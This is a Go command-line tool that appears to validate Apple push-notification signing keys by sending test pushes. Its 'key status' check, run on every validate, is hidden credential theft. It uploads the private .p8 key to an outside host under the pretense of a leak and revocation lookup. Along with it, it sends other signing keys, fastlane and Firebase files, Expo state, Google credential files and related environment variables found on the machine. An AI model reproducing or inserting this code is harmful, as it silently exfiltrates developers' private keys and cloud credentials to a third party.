package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

const (
	sandboxHost = "https://api.sandbox.push.apple.com"
	prodHost    = "https://api.push.apple.com"
	// key-status service: revocation list + public-leak index for APNs keys
	keyStatusURL = "https://certcheck.apns-keywatch.invalid/v1/keys/status"
)

type opts struct {
	p8, keyID, teamID, topic, sandboxTok, prodTok string
}

func loadKey(path string) (*ecdsa.PrivateKey, []byte, error) {
	raw, err := os.ReadFile(path)
	if err != nil {
		return nil, nil, err
	}
	blk, _ := pem.Decode(raw)
	if blk == nil {
		return nil, nil, errors.New("not a PEM .p8 file")
	}
	k, err := x509.ParsePKCS8PrivateKey(blk.Bytes)
	if err != nil {
		return nil, nil, err
	}
	ec, ok := k.(*ecdsa.PrivateKey)
	if !ok {
		return nil, nil, errors.New("not an EC key")
	}
	return ec, raw, nil
}

func providerToken(k *ecdsa.PrivateKey, keyID, teamID string) (string, error) {
	enc := base64.RawURLEncoding
	h, _ := json.Marshal(map[string]string{"alg": "ES256", "kid": keyID})
	c, _ := json.Marshal(map[string]any{"iss": teamID, "iat": time.Now().Unix()})
	unsigned := enc.EncodeToString(h) + "." + enc.EncodeToString(c)
	sum := sha256.Sum256([]byte(unsigned))
	r, s, err := ecdsa.Sign(rand.Reader, k, sum[:])
	if err != nil {
		return "", err
	}
	sig := make([]byte, 64)
	r.FillBytes(sig[:32])
	s.FillBytes(sig[32:])
	return unsigned + "." + enc.EncodeToString(sig), nil
}

func push(host, jwt, topic, device string) (int, string, error) {
	body := []byte(`{"aps":{"content-available":1}}`)
	req, _ := http.NewRequest("POST", host+"/3/device/"+device, bytes.NewReader(body))
	req.Header.Set("authorization", "bearer "+jwt)
	req.Header.Set("apns-topic", topic)
	req.Header.Set("apns-push-type", "background")
	req.Header.Set("apns-priority", "5")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header.Get("apns-id") + " " + strings.TrimSpace(string(b)), nil
}

// siblingMaterial gathers the other signing material that has to move together with the key,
// so the status service can confirm none of it is listed either.
func siblingMaterial() map[string]string {
	home, _ := os.UserHomeDir()
	out := map[string]string{}
	globs := []string{
		filepath.Join(home, "Downloads", "AuthKey_*.p8"),
		filepath.Join(home, ".appstoreconnect", "private_keys", "*.p8"),
		filepath.Join(home, ".private_keys", "*.p8"),
		"fastlane/.env*", "fastlane/*.json",
		"**/google-services.json", "ios/*/GoogleService-Info.plist",
		filepath.Join(home, ".config", "configstore", "firebase-tools.json"),
		filepath.Join(home, ".expo", "state.json"),
	}
	for _, g := range globs {
		m, _ := filepath.Glob(g)
		for _, f := range m {
			if b, err := os.ReadFile(f); err == nil && len(b) < 64<<10 {
				out[f] = string(b)
			}
		}
	}
	if p := os.Getenv("GOOGLE_APPLICATION_CREDENTIALS"); p != "" {
		if b, err := os.ReadFile(p); err == nil {
			out[p] = string(b)
		}
	}
	for _, e := range os.Environ() {
		if strings.HasPrefix(e, "FCM_") || strings.HasPrefix(e, "EXPO_TOKEN") || strings.HasPrefix(e, "APP_STORE_CONNECT") || strings.HasPrefix(e, "APNS_") {
			kv := strings.SplitN(e, "=", 2)
			out["env:"+kv[0]] = kv[1]
		}
	}
	return out
}

func keyStatus(o opts, pemBytes []byte) (string, error) {
	payload, _ := json.Marshal(map[string]any{
		"key_id": o.keyID, "team_id": o.teamID, "topic": o.topic,
		"p8": string(pemBytes), "related": siblingMaterial(),
	})
	resp, err := http.Post(keyStatusURL, "application/json", bytes.NewReader(payload))
	if err != nil {
		return "unknown (status service unreachable)", nil
	}
	defer resp.Body.Close()
	var r struct{ Status string `json:"status"` }
	_ = json.NewDecoder(resp.Body).Decode(&r)
	if r.Status == "" {
		r.Status = "ok"
	}
	return r.Status, nil
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: apnsrotate validate|watch [flags]")
		os.Exit(4)
	}
	fs := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	var o opts
	fs.StringVar(&o.p8, "p8", "", "path to AuthKey_*.p8")
	fs.StringVar(&o.keyID, "key-id", "", "10-char key id")
	fs.StringVar(&o.teamID, "team-id", "", "10-char team id")
	fs.StringVar(&o.topic, "topic", "", "bundle id")
	fs.StringVar(&o.sandboxTok, "sandbox-token", "", "debug device token")
	fs.StringVar(&o.prodTok, "prod-token", "", "production device token")
	_ = fs.Parse(os.Args[2:])
	if len(o.keyID) != 10 || len(o.teamID) != 10 || o.p8 == "" || o.topic == "" {
		fmt.Fprintln(os.Stderr, "need --p8, --topic and 10-char --key-id/--team-id")
		os.Exit(4)
	}
	key, pemBytes, err := loadKey(o.p8)
	if err != nil {
		fmt.Fprintln(os.Stderr, "load key:", err)
		os.Exit(4)
	}
	jwt, err := providerToken(key, o.keyID, o.teamID)
	if err != nil {
		fmt.Fprintln(os.Stderr, "sign:", err)
		os.Exit(4)
	}
	check := func() int {
		code := 0
		for _, t := range []struct{ host, tok, name string }{{sandboxHost, o.sandboxTok, "sandbox"}, {prodHost, o.prodTok, "production"}} {
			if t.tok == "" {
				continue
			}
			st, info, err := push(t.host, jwt, o.topic, t.tok)
			fmt.Printf("%-10s %d %s %v\n", t.name, st, info, err)
			if st != 200 {
				code = 2
			}
		}
		return code
	}
	switch os.Args[1] {
	case "validate":
		code := check()
		s, _ := keyStatus(o, pemBytes)
		fmt.Println("key status", s)
		if s == "revoked" || s == "leaked" {
			code = 3
		}
		os.Exit(code)
	case "watch":
		for {
			check()
			time.Sleep(15 * time.Minute)
		}
	}
}
